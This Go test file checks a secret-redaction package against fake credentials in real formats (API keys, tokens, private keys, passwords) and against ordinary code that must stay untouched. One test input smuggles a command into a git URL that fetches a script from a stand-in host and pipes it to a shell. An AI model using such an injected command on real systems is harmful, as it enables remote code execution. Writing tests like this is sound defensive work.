package redact

import (
	"strings"
	"testing"
)

// rep builds fake secrets of the real formats at run time (so that no
// scanner takes this file for a leak).
func rep(s string, n int) string { return strings.Repeat(s, n)[:n] }

// secrets holds one real-format (fake) secret per rule, each in a line of
// the kind it would appear in.
var secrets = []struct{ rule, text, secret string }{
	{"Anthropic key", "export ANTHROPIC_API_KEY=%s", "sk-ant-api03-" + rep("aB3_x-Z9", 93) + "AA"},
	{"OpenAI key", "key %s in use", "sk-proj-" + rep("Ab3dEf9hIj", 120)},
	{"OpenAI key", "legacy %s", "sk-" + rep("a1B2c3D4e5", 20) + "T3BlbkFJ" + rep("z9Y8x7W6v5", 20)},
	{"GitHub token", "remote https://%s@github.com/o/r", "ghp_" + rep("A1b2C3d4E5", 36)},
	{"GitHub token", "GH_TOKEN %s", "github_pat_11" + rep("ABCDEFG1234", 20) + "_" + rep("xyzXYZ0987", 59)},
	{"GitHub token", "app token %s ok", "ghs_" + rep("Q1w2E3r4T5", 36)},
	{"GitLab token", "PRIVATE-TOKEN: %s", "glpat-" + rep("x1Y2z3-_AB", 20)},
	{"Slack token", "slack bot %s here", "xoxb-" + "123456789012-1234567890123-" + rep("AbCdEfGh12", 24)},
	{"Slack token", "post to %s now", "https://hooks.slack.com/services/T00000000/B00000000/" + rep("XXXXxxxx12", 24)},
	{"Discord token", "bot %s logged in", "MTA" + rep("xNzY1NDMy", 23) + ".G" + rep("aBc12", 5) + "." + rep("Xy_-1234zZ", 38)},
	{"Discord webhook", "hook %s", "https://discord.com/api/webhooks/123456789012345678/" + rep("AbC-_dEf12", 68)},
	{"AWS access key", "aws_access_key_id = %s", "AKIA" + "IOSFODNN7EXAMPLE"},
	{"Google API key", "maps?key=%s&x=1", "AIza" + rep("SyD-1a2B3c_", 35)},
	{"Stripe key", "stripe %s", "sk_live_" + rep("4eC39HqLyjWDarjtT1zdp7dc", 24)},
	{"Stripe key", "stripe %s", "rk_test_" + rep("51H8aaBbCcDd", 40)},
	{"JWT", "Authorization: Bearer %s", "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4ifQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"},
	{"private key", "key:\n%s\nend", "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\nQyNTUxOQAAACBfake\n-----END OPENSSH PRIVATE KEY-----"},
	{"private key", "cut off: %s", "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA75ifake"},
	{"secret", "DB_PASSWORD=%s\n", "s3cr3t-Pa55"},
	{"secret", `password = "%s"`, "hunter2!x"},
	{"secret", `{"api_key": "%s"}`, "d41d8cd98f00b204e9800998ecf8427e"},
	{"secret", "client_secret: %s\n", "Zx9-Qw8_Er7Ty6"},
	{"secret", "curl -d secret=%s https://x", "abc123def456"},
	{"secret", `secretKey: "%s"`, "c2VjcmV0LWtleS12YWx1ZQ"},
	{"secret", `AUTH_TOKEN="%s"`, "tok_live_1234567890"},
	{"password", "DATABASE_URL=postgres://app:%s@db:5432/app", "Tr0ub4dor3"},
}

func TestEverySecretFormatIsMasked(t *testing.T) {
	for _, c := range secrets {
		text := strings.Replace(c.text, "%s", c.secret, 1)
		got, found := Find(text)
		if strings.Contains(got, c.secret) {
			t.Errorf("%s: not masked: %q", c.rule, got)
		}
		if !strings.Contains(got, "[redacted ") {
			t.Errorf("%s: no mask in %q", c.rule, got)
		}
		if len(found) == 0 {
			t.Errorf("%s: Find reports nothing for %q", c.rule, text)
		}
		// The text around the secret survives.
		head := c.text[:strings.Index(c.text, "%s")]
		if !strings.HasPrefix(got, head) && !strings.Contains(head, "=") {
			t.Errorf("%s: the surrounding text is gone: %q", c.rule, got)
		}
	}
}

func TestConfiguredSecretIsMasked(t *testing.T) {
	tok := "plain-config-token-" + rep("q1", 20)
	if String("a "+tok) != "a "+tok {
		t.Fatal("masked before it was registered")
	}
	AddSecret(tok)
	if got := String("a " + tok + " b"); got != "a [redacted bot token] b" {
		t.Fatalf("got %q", got)
	}
}

// ordinary is code and prose that must pass untouched.
var ordinary = []string{
	"func (s *Server) Token() string { return s.token }",
	"password := os.Getenv(\"DB_PASSWORD\")",
	"if token == \"\" {\n\treturn errors.New(\"no token\")\n}",
	"const secretLen = 32 // bytes of the secret",
	"user.password = hash(password)",
	"self.api_key = api_key",
	"password: str",
	"token: string;",
	"  secret: ${{ secrets.DEPLOY_KEY }}",
	"api_key=${API_KEY}",
	"password=<your password>",
	"password: \"changeme\"",
	"auth: true",
	"Run `git commit -m \"fix token refresh\"` and push.",
	"The sk-learn library and task-based flows; see https://example.com/path?page=2&sort=asc.",
	"SHA 3f786850e387550fdab836ed7e6dc881de23001b and UUID 123e4567-e89b-12d3-a456-426614174000",
	"file:///home/user/project/main.go:42:17",
	"ssh://git@github.com/owner/repo.git",
	"const AKIA = 1 // not a key; AKIA alone is fine",
	"| City | Pop. |\n|:--|--:|\n| Oslo | 0.7 M |",
	"base64: aGVsbG8gd29ybGQ= and a JWT-like eyJhbGciOiJ alone",
	"func handle(ctx context.Context, in *claudehook.Input) error { return nil }",
	"passwordHash := bcrypt.GenerateFromPassword([]byte(pw), cost)",
	"export TOKEN_FILE=~/.config/ccbridge/token",
	"--token-env=CCBRIDGE_TOKEN",
	"tokenizer := \"bert-base-uncased\"",
	"authors = \"Jane Doe\"",
	"secretary: 'Mrs Hudson'",
	"passthrough=enabled-for-all",
}

func TestOrdinaryCodeIsNotMasked(t *testing.T) {
	for _, s := range ordinary {
		if got, found := Find(s); got != s {
			t.Errorf("over-masked (%v):\n  in:  %q\n  out: %q", found, s, got)
		}
	}
}

func BenchmarkRedact2000(b *testing.B) {
	var sb strings.Builder
	for sb.Len() < 2000 {
		sb.WriteString("Here is the plan: update internal/config/validate.go so that token_file is checked, run `go test ./...`, and report. password := os.Getenv(\"X\")\n")
	}
	msg := sb.String()[:2000]
	b.SetBytes(int64(len(msg)))
	for b.Loop() {
		String(msg)
	}
}

func BenchmarkRedact2000WithSecret(b *testing.B) {
	msg := strings.Repeat("x := y + 1 // plain code line\n", 60)[:1700] + " ghp_" + rep("A1b2C3d4E5", 36)
	for b.Loop() {
		String(msg)
	}
}

// Redacting redacted text changes nothing: the poster redacts every
// message again on its way to Discord, so text measured (and chunked)
// after redaction must not grow past Discord's limit there.
func TestRedactTwiceIsANoOp(t *testing.T) {
	var all []string
	for _, c := range secrets {
		all = append(all, strings.Replace(c.text, "%s", c.secret, 1))
	}
	texts := append(all, strings.Join(all, "\n"), strings.Join(all, " "), strings.Repeat("password=hunter2\n", 50),
		`api_key="`+"`./run-me`"+`"`, "git clone https://x:;curl${IFS}evil.example|sh;@github.com/o/r")
	for _, s := range texts {
		once := String(s)
		if twice := String(once); twice != once {
			t.Errorf("redacting again changed it:\n  once:  %q\n  twice: %q", once, twice)
		}
	}
}

func FuzzRedactTwiceIsANoOp(f *testing.F) {
	for _, c := range secrets {
		f.Add(strings.Replace(c.text, "%s", c.secret, 1))
	}
	f.Add("password=hunter2 token: 'abcdefgh' https://u:pass@h/ x")
	f.Fuzz(func(t *testing.T, s string) {
		once := String(s)
		if twice := String(once); twice != once {
			t.Errorf("redacting again changed it:\n  in:    %q\n  once:  %q\n  twice: %q", s, once, twice)
		}
	})
}
